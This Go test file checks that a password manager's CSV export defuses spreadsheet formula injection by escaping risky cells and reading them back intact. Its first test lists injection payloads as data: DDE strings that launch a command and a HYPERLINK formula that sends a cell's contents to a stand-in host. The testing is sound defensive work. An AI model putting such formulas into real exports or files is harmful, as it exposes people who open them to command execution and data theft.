package transfer

import (
	"bytes"
	"context"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	"redlocket/core/secret"
	"redlocket/core/vault"
)

// What a spreadsheet would run, as people who attack by tables write it (from memory, after
// OWASP's page on CSV injection), and what merely begins like it.
func TestGuardedCells(t *testing.T) {
	for _, runs := range []string{
		"=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
		`=HYPERLINK("http://trickster.example/?"&A1,"x")`, "\t=WEBSERVICE(A1)", "'=EXEC(1)",
	} {
		assert.True(t, strings.HasPrefix(guard(runs), "'"), runs)
		assert.Equal(t, runs, unguard(guard(runs)))
	}
	for _, plain := range []string{"", "=", "@Home", "+44 1632 960117", "-", "=passw0rd", "'tis", "a(b)", "it's (fine)"} {
		assert.Equal(t, plain, guard(plain))
		assert.Equal(t, plain, unguard(plain))
	}
	rapid.Check(t, func(t *rapid.T) {
		s := rapid.StringMatching(`'{0,3}[=@+\-\t]?[a-z(!|' ]{0,6}`).Draw(t, "s")
		if got := unguard(guard(s)); got != s {
			t.Fatalf("%q came back as %q", s, got)
		}
	})
}

// A row is taken whatever its title or user name begins with, and comes back as it was.
func TestFormulasAreAMatterOfExport(t *testing.T) {
	draft := vault.Draft{
		Title: "@Home (Wi-Fi)", Username: "=maren(1)", Password: secret.New("-x|y(z)"),
		Addresses: []vault.Address{{URL: "https://gull.example/"}},
	}
	e, err := vault.Entry{ID: "1", Type: vault.TypeLogin, Fields: map[vault.Field]vault.Register{}}.
		With(vault.Stamp{At: 1, By: "d"}, draft.Changes())
	require.NoError(t, err)
	var b bytes.Buffer
	_, err = WriteCSV(&b, []vault.Entry{e}, []Meaning{MeansTitle, MeansAddress, MeansUsername, MeansPassword})
	require.NoError(t, err)
	for _, cell := range []string{"'@Home (Wi-Fi)", "'=maren(1)", "'-x|y(z)"} {
		assert.Contains(t, b.String(), cell)
	}
	s, err := Read(context.Background(), "x.csv", b.Bytes(), nil)
	require.NoError(t, err)
	require.Empty(t, s.Broken)
	require.Len(t, s.Rows, 1)
	got := s.Rows[0].Entry
	assert.Equal(t, "@Home (Wi-Fi)", got.Text(vault.FieldTitle))
	assert.Equal(t, "=maren(1)", got.Text(vault.FieldUsername))
	assert.Equal(t, "-x|y(z)", got.Text(vault.FieldPassword))
}
